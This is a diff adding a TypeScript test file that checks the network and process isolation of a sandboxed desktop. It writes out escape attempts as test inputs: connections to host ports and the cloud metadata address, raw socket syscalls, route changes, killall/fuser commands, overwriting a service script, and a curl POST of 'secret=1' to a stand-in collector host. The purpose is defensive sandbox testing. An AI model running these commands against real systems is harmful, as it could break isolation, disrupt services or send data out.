@@ -1,0 +1,147 @@
+import { randomBytes } from 'node:crypto';
+import { createSocket } from 'node:dgram';
+import { createServer, type Server } from 'node:net';
+import { networkInterfaces } from 'node:os';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { SandboxDesktop } from '../../src/desktop/providers/sandbox/sandbox-desktop.ts';
+import { SandboxProvider } from '../../src/desktop/providers/sandbox/sandbox-provider.ts';
+import { accounts, attempt, attemptPython } from './inside.ts';
+
+const provider = new SandboxProvider();
+let desktop: SandboxDesktop;
+let tcp: Server;
+let abstract: Server;
+const udp = createSocket('udp4');
+const abstractName = `host-${randomBytes(6).toString('hex')}`;
+let reached = 0;
+let port = 0;
+let udpPort = 0;
+
+beforeAll(async () => {
+  const count = () => {
+    reached += 1;
+  };
+  tcp = createServer(count).listen(0, '::');
+  abstract = createServer(count).listen(`\0${abstractName}`);
+  udp.on('message', count);
+  await Promise.all([
+    new Promise((resolve) => tcp.once('listening', resolve)),
+    new Promise((resolve) => abstract.once('listening', resolve)),
+    new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve)),
+  ]);
+  port = (tcp.address() as { port: number }).port;
+  udpPort = udp.address().port;
+  await provider.check();
+  desktop = await provider.create({ width: 1280, height: 720 });
+});
+
+afterAll(async () => {
+  await provider.close();
+  tcp.close();
+  abstract.close();
+  udp.close();
+});
+
+function hostAddresses(): string[] {
+  const own = Object.values(networkInterfaces()).flatMap((list) => (list ?? []).map((entry) => entry.address));
+  return [
+    ...new Set([
+      ...own,
+      '127.0.0.1',
+      '::1',
+      '8.8.8.8',
+      '1.1.1.1',
+      '169.254.169.254',
+      '10.0.0.1',
+      '192.168.0.1',
+      '172.17.0.1',
+    ]),
+  ];
+}
+
+describe.each(accounts)('%s inside', (account) => {
+  it('reaches no listener of the host and no address outside', async () => {
+    const program = `
+import socket
+for address in ${JSON.stringify(hostAddresses())}:
+    family = socket.AF_INET6 if ':' in address else socket.AF_INET
+    for port in (${port}, 53, 22):
+        try:
+            s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(0.5); s.connect((address, port))
+            # The doubles' name server is the one thing that answers here.
+            if not (address == '127.0.0.1' and port == 53): print('CONNECTED', address, port)
+        except OSError: pass
+    try:
+        socket.socket(family, socket.SOCK_DGRAM).sendto(b'x', (address, ${udpPort}))
+    except OSError: pass
+print('done')`;
+    const { output } = await attemptPython(desktop, account, program);
+    expect(output.trim()).toBe('done');
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    expect(reached).toBe(0);
+  });
+
+  it('has no sockets of other kinds, and no raw ones', async () => {
+    const program = `
+import socket
+for family, kind in [(40, 1), (38, 5), (17, 3), (31, 1), (16, 3), (2, 3), (10, 3), (44, 3), (29, 3), (1 << 32 | 40, 1)]:
+    try:
+        s = socket.socket(family & 0xffffffff, kind)
+        print('MADE', family, kind) if family != 16 else None
+    except (OSError, OverflowError): pass
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+for domain in (40, 40 | 1 << 32, 38 | 1 << 40):
+    if libc.syscall(ctypes.c_long(41), ctypes.c_long(domain), ctypes.c_long(1), ctypes.c_long(0)) >= 0: print('MADE', domain)
+print('done')`;
+    expect((await attemptPython(desktop, account, program)).output.trim()).toBe('done');
+  });
+
+  it('cannot connect to abstract sockets of the host or to its own control socket', async () => {
+    const program = `
+import socket, os
+for name in ['\\0${abstractName}', ${JSON.stringify(desktop.controlPath)}]:
+    try:
+        s = socket.socket(socket.AF_UNIX); s.connect(name); print('CONNECTED')
+    except OSError: pass
+for line in open('/proc/net/unix'):
+    if 'desktop' in line or 'internet' in line or ${JSON.stringify(abstractName)} in line: print('SEEN', line)
+print('done')`;
+    expect((await attemptPython(desktop, account, program)).output.trim()).toBe('done');
+    expect(reached).toBe(0);
+  });
+
+  it('cannot change its network', async () => {
+    const script = `ip link add d0 type dummy; ip link set lo down; ip route del local 198.18.0.0/15 dev lo table local; ip addr add 10.9.8.7/8 dev lo; ip -br addr; true`;
+    const { output } = await attempt(desktop, account, script);
+    expect(output).toMatch(/not permitted/);
+    expect(output).not.toContain('10.9.8.7');
+    expect(output).toMatch(/^lo\s+\S+\s+127\.0\.0\.1\/8 ::1\/128 *$/m);
+  });
+
+  it('cannot see, stop, replace or edit the internet beside it', async () => {
+    const script = `ps -eo args | grep -F internet.mjs | grep -v grep; cat /mnt/ca
+for p in 53 80 443; do for a in 0.0.0.0 127.0.0.1 127.0.0.53 198.18.0.9; do
+python3 -c "import socket; s=socket.socket(); s.setsockopt(1,15,1); s.setsockopt(1,2,1); s.bind(('$a',$p)); print('BOUND')" 2>&1 | tail -1; done; done
+echo 'process.exit()' > /usr/lib/session/internet.mjs; killall -9 node; fuser -k 80/tcp 443/tcp 53/udp; true`;
+    const { output } = await attempt(desktop, account === 'root' ? 'user' : account, script);
+    const asRoot =
+      account === 'root' ? (await attempt(desktop, 'root', script.replace('killall -9 node;', ''))).output : '';
+    for (const text of [output, asRoot]) {
+      expect(text).not.toContain('BOUND');
+      expect(text).not.toContain('session/node');
+      expect(text).not.toContain('PRIVATE KEY');
+    }
+    const page = await attempt(desktop, account, 'curl -sS https://www.example.org/');
+    expect(page.output).toContain('<h1>www.example.org</h1>');
+  });
+});
+
+it('sees the requests from outside, whatever their headers say', async () => {
+  const since = Date.now();
+  await attempt(desktop, 'user', "curl -sS -H 'Host: innocent.example' -d secret=1 http://collector.example.net/drop");
+  const requests = (await desktop.webLog(since)).filter((entry) => entry.kind === 'http');
+  expect(requests).toHaveLength(1);
+  expect(requests[0]).toMatchObject({ host: 'collector.example.net', method: 'POST', path: '/drop', bytes: 8 });
+  expect(Buffer.from(requests[0]?.body ?? '', 'base64').toString()).toBe('secret=1');
+});
